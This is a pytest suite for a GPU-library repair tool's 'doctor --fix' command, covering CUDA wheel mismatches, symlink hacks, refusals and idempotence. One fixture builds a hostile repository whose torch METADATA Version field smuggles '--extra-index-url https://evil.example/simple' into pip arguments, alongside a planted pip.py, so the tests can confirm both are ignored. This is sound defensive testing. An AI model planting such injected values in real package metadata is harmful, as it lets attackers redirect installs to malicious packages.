"""``gpuboot doctor --fix`` with real pip in throwaway environments (tests/fix_env.py): each scenario ends healthy
after one --fix or refuses with the reason, and a second --fix changes nothing."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any, Dict

import pytest
from fix_env import OLD_PIP, Scenario, wheelhouse
from helpers import gathered
from probes import healthy
from readme import assert_excerpt_text, block

import gpuboot
from gpuboot.doctor.remedy import environment_refusal, fix


@pytest.fixture(scope="module")
def wheels(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return wheelhouse(tmp_path_factory.mktemp("wheelhouse"))


def fixed(s: Scenario) -> Dict[str, Any]:
    """One `--fix --yes --json`, then a second: it must find nothing to do."""
    proc = s.fix("--yes", "--json")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    out: Dict[str, Any] = json.loads(proc.stdout)
    assert out["applied"] and all(a["exit_code"] == 0 for a in out["applied"])
    # pip runs isolated (-I): nothing in the current directory or on PYTHONPATH is imported by it
    assert all(a["argv"][:4] == [str(s.python), "-I", "-m", "pip"] for a in out["applied"] if a["argv"][0] != "rm")
    assert [f for f in out["after"]["findings"] if f["severity"] == "problem"] == []
    again = s.fix("--yes", "--json")
    second = json.loads(again.stdout)
    assert again.returncode == 0 and second["plan"] == [] and second["applied"] == []  # a fix applied twice is a bug
    return out


def problems(report: Dict[str, Any]) -> Dict[str, str]:
    return {f["id"]: f["remedy"] for f in report["findings"] if f["severity"] == "problem"}


def test_missing_cublas_is_installed_by_the_running_interpreter(wheels: Path, tmp_path: Path) -> None:
    s = Scenario(tmp_path, wheels, ["ctranslate2==4.8.5"])
    out = fixed(s)
    assert problems(out["before"]) == {"missing-library": "pip install nvidia-cublas-cu12"}
    assert out["interpreter"] == str(s.python) and out["environment"] == str(s.venv)
    assert "nvidia-cublas-cu12" in s.versions()


def test_cudnn_8_needed_but_9_installed(wheels: Path, tmp_path: Path) -> None:
    s = Scenario(tmp_path, wheels, ["ctranslate2==4.4.0", "nvidia-cudnn-cu12==9.1.0.70"])
    out = fixed(s)
    assert problems(out["before"])["cudnn-mismatch"] == "pip install 'nvidia-cudnn-cu12==8.*'"
    assert s.versions()["nvidia-cudnn-cu12"] == "8.9.2.26"


def test_a_cu11_wheel_beside_a_cuda_12_consumer(wheels: Path, tmp_path: Path) -> None:
    s = Scenario(tmp_path, wheels, ["ctranslate2==4.8.5", "nvidia-cublas-cu11"])
    out = fixed(s)
    assert "wrong-major" in problems(out["before"])
    assert "nvidia-cublas-cu12" in s.versions()


def test_the_symlink_hack_is_removed_and_the_right_wheel_installed(wheels: Path, tmp_path: Path) -> None:
    s = Scenario(tmp_path, wheels, ["ctranslate2==4.8.5", "nvidia-cublas-cu11"])
    lib = s.site / "nvidia" / "cublas" / "lib"
    (lib / "libcublas.so.12").symlink_to("libcublas.so.11")
    (lib / "libcublasLt.so.12").symlink_to("libcublasLt.so.11")
    out = fixed(s)
    assert "renamed-library" in problems(out["before"])
    assert [a["argv"] for a in out["applied"] if a["argv"][0] == "rm"]  # the hand-made links, inside this venv
    assert not (lib / "libcublasLt.so.11").is_symlink() and (lib / "libcublasLt.so.11").exists()
    # nvidia-cublas-cu12 shares nvidia/cublas/lib: its real files replaced the links
    assert not (lib / "libcublas.so.12").is_symlink() and (lib / "libcublas.so.12").exists()


def test_a_ctranslate2_too_old_for_the_wheels_is_upgraded(wheels: Path, tmp_path: Path) -> None:
    s = Scenario(tmp_path, wheels, ["ctranslate2==3.24.0", "nvidia-cublas-cu12"])
    out = fixed(s)
    assert "consumer-too-old" in problems(out["before"])
    assert s.versions()["ctranslate2"] == "4.8.5"


def test_torch_pinning_cudnn_8_beside_ctranslate2_450_gets_the_consumer_change(wheels: Path, tmp_path: Path) -> None:
    """The library fix (cuDNN 9) would break torch 2.3.1's pin: doctor offers
    ctranslate2 4.4.0 instead (faster-whisper #1086), and --fix applies that --
    the README's session, line for line."""
    s = Scenario(tmp_path, wheels, ["ctranslate2==4.5.0", "torch==2.3.1"])
    here = {"<venv>/site-packages": str(s.site), "<venv>": str(s.venv),
            "": f" --no-index --find-links {s.wheels}"}  # the README shows pip's own options left out
    session = block("fix-session").split("$ gpuboot ")[1:]
    plain = s.gpuboot("doctor")
    assert "fix: pip install ctranslate2==4.4.0" in plain.stdout, plain.stdout  # doctor alone says it too
    assert "torch 2.3.1 requires nvidia-cudnn-cu12==8.9.2.26" in plain.stdout
    first, second = s.fix("--yes"), s.fix("--yes")
    for command, proc in zip(session, (plain, first, second)):
        expected = command.split("\n", 1)[1]
        assert_excerpt_text(expected, proc.stdout, here)
    assert first.returncode == 0 and second.returncode == 0, first.stdout + first.stderr
    v = s.versions()
    assert (v["ctranslate2"], v["torch"], v["nvidia-cudnn-cu12"]) == ("4.4.0", "2.3.1", "8.9.2.26")
    check = json.loads(s.gpuboot("doctor", "--json").stdout)
    assert check["exit_code"] == 0


def test_without_a_terminal_and_without_yes_it_only_prints_the_plan(wheels: Path, tmp_path: Path) -> None:
    s = Scenario(tmp_path, wheels, ["ctranslate2==4.8.5"])
    proc = s.fix()
    assert proc.returncode == 1
    assert f"plan: 1 command(s) in {s.venv}" in proc.stdout and "-I -m pip install nvidia-cublas-cu12" in proc.stdout
    assert "rerun with --yes" in proc.stderr
    assert "nvidia-cublas-cu12" not in s.versions()
    dry = s.fix("--dry-run")
    assert dry.returncode == 1 and "-I -m pip install nvidia-cublas-cu12 --no-index --find-links" in dry.stdout
    assert "nvidia-cublas-cu12" not in s.versions()


def test_a_failing_pip_is_reported_with_its_last_lines(wheels: Path, tmp_path: Path) -> None:
    s = Scenario(tmp_path, wheels, ["ctranslate2==4.8.5"])
    empty = tmp_path / "empty-index"
    empty.mkdir()
    proc = s.gpuboot("doctor", "--fix", "--yes", "--", "--no-index", "--find-links", str(empty))
    assert proc.returncode == 1
    assert f"ran: {s.python} -I -m pip install nvidia-cublas-cu12 --no-index --find-links {empty}: FAILED (exit 1)" \
        in proc.stdout
    assert "No matching distribution found for nvidia-cublas-cu12" in proc.stdout
    assert "the environment is as pip left it" in proc.stdout
    assert "missing-library" in proc.stdout and "-> problem" in proc.stdout  # before -> after, still there


def test_a_host_level_fix_is_explained_never_run(wheels: Path, tmp_path: Path) -> None:
    """A driver too old for CUDA 12 (the fake GPU's driver says CUDA 11.8): the
    remedy is a driver upgrade, which --fix explains and does not run."""
    s = Scenario(tmp_path, wheels, ["ctranslate2==4.8.5", "nvidia-cublas-cu12"])
    shim = s.tmp / "old_driver"
    shim.mkdir()
    (shim / "sitecustomize.py").write_text(
        "import runpy, os\n"
        f"runpy.run_path({str(Path(__file__).parent / 'host_with_gpu' / 'sitecustomize.py')!r})\n"
        "import fake_nvml\n"
        "_init = fake_nvml.FakeNVML.__init__\n"
        "def __init__(self, gpus, **kw):\n"
        "    kw['cuda_version'] = 11080\n"
        "    _init(self, gpus, **kw)\n"
        "fake_nvml.FakeNVML.__init__ = __init__\n")
    env = s.env()
    env["PYTHONPATH"] = f"{shim}:{env['PYTHONPATH']}"
    import subprocess

    proc = subprocess.run([str(s.python), "-m", "gpuboot", "doctor", "--fix", "--yes"], capture_output=True,
                          text=True, env=env, timeout=300)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "not run (outside this environment; do it yourself) [driver-too-old]: upgrade the NVIDIA driver" in \
        proc.stdout
    assert "nothing to apply in this environment" in proc.stdout


def test_root_in_the_system_interpreter_and_pep_668_are_refused(tmp_path: Path) -> None:
    stdlib = tmp_path / "lib" / "python3.11"
    stdlib.mkdir(parents=True)
    assert environment_refusal(prefix="/usr", base_prefix="/usr", euid=1000, stdlib=str(stdlib)) is None
    root = environment_refusal(prefix="/usr", base_prefix="/usr", euid=0, stdlib=str(stdlib))
    assert root is not None and "root in the system interpreter" in root and "-m venv" in root
    (stdlib / "EXTERNALLY-MANAGED").write_text("[externally-managed]\n")
    pep668 = environment_refusal(prefix="/usr", base_prefix="/usr", euid=1000, stdlib=str(stdlib))
    assert pep668 is not None and "PEP 668" in pep668 and "-m venv" in pep668
    assert environment_refusal(prefix="/venv", base_prefix="/usr", euid=0, stdlib=str(stdlib)) is None  # a venv


def test_the_library_call_plans_without_applying(wheels: Path, tmp_path: Path) -> None:
    """gpuboot.fix(report) only plans unless apply=True."""
    from fake_nvml import RTX_3070, FakeNVML, gpu
    from helpers import install, wheel

    from gpuboot.doctor import diagnose

    site = install(tmp_path / "site", wheel("nvidia-cublas-cu11"))
    report = diagnose(gathered(consumers=["ctranslate2"], environ={}, search_paths=[str(site)],
                             nvml=FakeNVML([gpu(RTX_3070, 0)]), driver=True,
                             metadata={"ctranslate2": ("4.8.5", [])},
                             loaded=[], initial_environ={}, wsl=False, cpu_threads=2, distributions=lambda: (),
                             probe=healthy()))
    result = gpuboot.fix(report)
    assert result.applied == () and result.after is None and result.exit_code == 1
    assert [(s.finding, s.kind, s.argv) for s in result.plan] == [
        ("wrong-major", "pip", (sys.executable, "-I", "-m", "pip", "install", "nvidia-cublas-cu12"))]
    assert result.plan[0].display == shlex.join(result.plan[0].argv)


# --------------------------------------------------------------------------- --fix trusts no text


def _hostile_checkout(root: Path, marker: Path) -> Path:
    """A cloned repository as an attacker would leave it: a torch .dist-info whose Version carries pip options
    (on sys.path when the app -- or `python -m gpuboot` -- runs from here), and a pip.py that leaves a marker."""
    repo = root / "cloned repo"
    info = repo / "torch-2.3.1.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: torch\n"
                                   "Version: 2.3.1' --extra-index-url https://evil.example/simple 'x\n")
    (repo / "pip.py").write_text(f"open({str(marker)!r}, 'w').write('pip.py from the current directory ran')\n")
    return repo


@pytest.mark.parametrize("script", [False, True], ids=["python -m gpuboot", "gpuboot script"])
def test_a_hostile_current_directory_changes_nothing_it_should_not(wheels: Path, tmp_path: Path,
                                                                   script: bool) -> None:
    s = Scenario(tmp_path, wheels, ["ctranslate2==4.8.5"])
    marker = tmp_path / "MARKER"
    repo = _hostile_checkout(tmp_path, marker)
    proc = s.fix("--yes", "--json", cwd=repo, script=script)
    out = json.loads(proc.stdout)
    assert not marker.exists(), "pip ran the current directory's pip.py"
    argvs = [a["argv"] for a in out["applied"]] + [st["argv"] for st in out["plan"]]
    assert argvs and not any("evil.example" in w or "--extra-index-url" in w for argv in argvs for w in argv)
    assert all(a["exit_code"] == 0 for a in out["applied"]) and "nvidia-cublas-cu12" in s.versions()
    before = {f["id"]: f for f in out["before"]["findings"]}
    assert "cpu-only-torch" not in before  # no command was built from the torch metadata
    if not script:  # `python -m` puts the current directory on sys.path: doctor sees and names the metadata
        bad = before["malformed-metadata"]
        assert bad["severity"] == "problem" and bad["title"].startswith("the metadata of torch is malformed: "
                                                                         "invalid Version")
        assert str(repo / "torch-2.3.1.dist-info") in bad["evidence"] and bad["actions"] == []


def test_malformed_metadata_is_a_finding_never_a_traceback(wheels: Path, tmp_path: Path) -> None:
    """No Version, not UTF-8, METADATA a directory: doctor names each; ensure() (with a driver) does not raise."""
    s = Scenario(tmp_path, wheels, ["ctranslate2==4.8.5", "nvidia-cublas-cu12"])
    for name, body in (("torch-2.3.1", b"Metadata-Version: 2.1\nName: torch\n"),
                       ("onnxruntime_gpu-1.20.0", b"Metadata-Version: 2.1\nName: onnxruntime-gpu\nVersion: 1.2\xff\n"),
                       ("somepkg-1.0", None)):
        info = s.site / f"{name}.dist-info"
        info.mkdir()
        (info / "METADATA").mkdir() if body is None else (info / "METADATA").write_bytes(body)
    proc = s.gpuboot("doctor", "--json")
    assert "Traceback" not in proc.stderr, proc.stderr
    bad = {f["title"].split(":")[0]: f for f in json.loads(proc.stdout)["findings"] if f["id"] == "malformed-metadata"}
    assert set(bad) == {"the metadata of torch is malformed", "the metadata of onnxruntime_gpu is malformed",
                        "the metadata of somepkg is malformed"}, bad
    assert "no Version" in bad["the metadata of torch is malformed"]["title"]
    assert "not UTF-8" in bad["the metadata of onnxruntime_gpu is malformed"]["title"]
    assert bad["the metadata of somepkg is malformed"]["severity"] == "warning"
    ensure = subprocess.run([str(s.python), "-c", "import gpuboot; print(gpuboot.ensure().summary())"],
                            capture_output=True, text=True, env=s.env(), cwd=tmp_path, timeout=120)
    assert ensure.returncode == 0 and "Traceback" not in ensure.stderr, ensure.stderr
    assert "NVIDIA libraries ready" in ensure.stdout


def test_an_old_pip_that_cannot_check_first_is_not_run_without_confirmation(wheels: Path, tmp_path: Path) -> None:
    s = Scenario(tmp_path, wheels, ["ctranslate2==4.8.5"])
    s.pip("install", f"pip=={OLD_PIP}")
    proc = s.fix("--yes")
    assert f"not checked before it runs: pip {OLD_PIP} cannot check an install" in proc.stdout, proc.stdout
    assert "skipped: " in proc.stdout and "not run without confirmation" in proc.stdout
    assert "nvidia-cublas-cu12" not in s.versions() and proc.returncode == 1


def test_fix_for_another_interpreter_refuses_and_names_its_command(tmp_path: Path) -> None:
    from fake_nvml import RTX_3070, FakeNVML, gpu
    from helpers import install, wheel

    from gpuboot.doctor import diagnose

    other = tmp_path / "other env"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(other)], check=True, timeout=120)
    site = install(tmp_path / "site", wheel("nvidia-cublas-cu11"))
    report = diagnose(gathered(consumers=["ctranslate2"], environ={}, search_paths=[str(site)],
                             nvml=FakeNVML([gpu(RTX_3070, 0)]), driver=True,
                             metadata={"ctranslate2": ("4.8.5", [])}, loaded=[], initial_environ={}, wsl=False,
                             cpu_threads=2, distributions=lambda: (), probe=healthy()))
    result = fix(report, apply=True, python=str(other / "bin" / "python"))
    assert result.applied == () and result.after is None and result.refused is not None
    assert shlex.join([str(other / "bin" / "python"), "-m", "gpuboot", "doctor", "--fix"]) in result.refused
    assert not (other / "lib").exists() or not list((other / "lib").rglob("*.dist-info"))  # nothing installed there


def test_a_link_inside_a_venv_whose_path_has_a_space_is_removed(wheels: Path, tmp_path: Path) -> None:
    s = Scenario(tmp_path, wheels, ["ctranslate2==4.8.5", "nvidia-cublas-cu11"], venv="my venv")
    lib = s.site / "nvidia" / "cublas" / "lib"
    (lib / "libcublas.so.12").symlink_to("libcublas.so.11")
    plan = s.fix("--dry-run")
    assert f"[renamed-library] rm {shlex.quote(str(lib / 'libcublas.so.12'))}" in plan.stdout, plan.stdout
    out = fixed(s)
    removed = [a for a in out["applied"] if a["argv"][0] == "rm"]
    assert removed and removed[0]["argv"] == ["rm", str(lib / "libcublas.so.12")]
